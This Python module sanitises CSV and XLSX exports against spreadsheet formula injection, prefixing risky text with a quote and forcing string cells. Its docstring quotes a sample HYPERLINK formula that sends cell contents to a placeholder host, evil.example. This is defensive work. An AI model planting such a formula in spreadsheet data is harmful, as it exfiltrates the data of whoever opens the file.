"""Spreadsheet files (CSV and XLSX) that a spreadsheet cannot read as formulas.

Every CSV and XLSX the platform writes, in a view, a task or a management command, goes
through this module, whichever app writes it. A name, an e-mail address or a title is text
that someone typed; a spreadsheet that opens ``=HYPERLINK("https://evil.example/?x="&B2, "Bekijk")``
from a CSV makes it a live formula that sends the other cells away. So:

- **CSV**: text that a spreadsheet would read as a formula, because it starts with ``=``,
  ``+``, ``-``, ``@``, a tab, a carriage return or a NUL, also after leading whitespace, gets a
  single quote in front, as OWASP's guidance on CSV injection advises; the csv module quotes
  fields, so a separator inside a value cannot start a new cell. Numbers are written as numbers
  and keep their sign: ``-3`` given as a number is no formula, ``"-3"`` typed as text is
  neutralised.
- **XLSX**: every text is written as a string cell (openpyxl would otherwise make a formula of
  a text that starts with ``=``), so nothing is changed and nothing is evaluated; numbers stay
  number cells.

Why not a library for the CSV part: ``defusedcsv`` lets text that looks like a number through
unchanged (``"-3"``), misses a leading tab, carriage return or whitespace, and rewrites ``|``
inside values; tablib's own ``escape`` (XLSX only) strips the ``=`` and so changes the value.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}
# What makes a spreadsheet read a cell as a formula (OWASP, CSV injection; ASVS adds NUL).
FORMULA_STARTS = frozenset("=+-@\t\r\0")
NEUTRALISER = "'"
_SHEET_TITLE_FORBIDDEN = str.maketrans(dict.fromkeys("[]:*?/\\", "-"))


def spreadsheet_safe(value: Any) -> Any:
    """``value``, or for a text that a spreadsheet would take for a formula, that text behind a
    single quote. Anything that is not text (numbers, dates, None) is returned as it is."""
    if not isinstance(value, str) or not value:
        return value
    if value[0] in FORMULA_STARTS or value.lstrip()[:1] in FORMULA_STARTS:
        return NEUTRALISER + value
    return value


class _SafeRows:
    """A csv writer that neutralises every field it is given."""

    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([spreadsheet_safe(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(handle, **fmtparams) -> _SafeRows:
    """Like ``csv.writer``, with every field neutralised."""
    return _SafeRows(csv.writer(handle, **fmtparams))


class SafeDictWriter(csv.DictWriter):
    """Like ``csv.DictWriter``, with every field neutralised (the header is ours)."""

    def writerow(self, rowdict: dict):
        return super().writerow({key: spreadsheet_safe(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[dict]) -> None:
        for rowdict in rowdicts:
            self.writerow(rowdict)


def csv_dict_writer(handle, fieldnames: Sequence[str], **kwargs) -> SafeDictWriter:
    return SafeDictWriter(handle, fieldnames=fieldnames, **kwargs)


def table_csv(headers: Sequence[str], rows: Iterable[Sequence[Any]], **fmtparams) -> bytes:
    """A table as CSV in UTF-8 with a byte order mark, which Excel needs to read the accents."""
    out = io.StringIO()
    writer = csv_writer(out, **fmtparams)
    writer.writerow(headers)
    writer.writerows(rows)
    return out.getvalue().encode("utf-8-sig")


def table_xlsx(headers: Sequence[str], rows: Iterable[Sequence[Any]], *, title: str = "") -> bytes:
    """A table as one XLSX sheet: a bold, frozen header row, text as string cells."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = (title.translate(_SHEET_TITLE_FORBIDDEN) or "Export")[:31]
    bold = Font(bold=True)
    widths: dict[int, int] = {}
    for row_number, row in enumerate([headers, *rows], start=1):
        for column, value in enumerate(row, start=1):
            cell = sheet.cell(row=row_number, column=column)
            if isinstance(value, str):
                cell.value = ILLEGAL_CHARACTERS_RE.sub("", value)
                cell.data_type = "s"  # a text, never a formula
            else:
                cell.value = value
            if row_number == 1:
                cell.font = bold
            widths[column] = max(
                widths.get(column, 0), len(str(value if value is not None else ""))
            )
    sheet.freeze_panes = "A2"
    for column, width in widths.items():
        sheet.column_dimensions[get_column_letter(column)].width = min(width + 2, 60)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def table_bytes(
    headers: Sequence[str], rows: Iterable[Sequence[Any]], fmt: str, *, title: str = ""
) -> bytes:
    """A table in ``fmt`` (a key of ``CONTENT_TYPES``)."""
    if fmt == "csv":
        return table_csv(headers, rows)
    if fmt == "xlsx":
        return table_xlsx(headers, rows, title=title)
    raise ValueError(f"unknown export format: {fmt}")
